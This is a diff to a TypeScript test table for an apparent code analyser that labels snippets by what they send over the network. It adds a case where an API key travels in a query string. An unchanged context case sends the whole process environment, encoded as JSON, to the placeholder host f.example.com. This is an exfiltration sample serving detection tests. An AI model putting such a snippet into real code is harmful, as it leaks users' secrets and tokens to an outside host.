@@ -154,6 +154,11 @@ const CASES: Record<string, Case[]> = {
       [net('fetch', { sends: ['secret'], authHeader: true }), env('read', { name: 'GITHUB_TOKEN' })],
     ],
     [
+      'a key in the query parameter its API reads it from',
+      `const city = process.argv[2];\nfetch(\`https://api.weather.example/v1?city=\${city}&key=\${process.env.WEATHER_API_KEY}\`);`,
+      [net('fetch', { sends: ['secret'], authHeader: true })],
+    ],
+    [
       'environment in a query string',
       `import * as h from 'node:https';\nconst q = encodeURIComponent(JSON.stringify(process.env));\nh.get('https://f.example.com/p?d=' + q);`,
       [net('fetch', { sends: ['environment'] })],
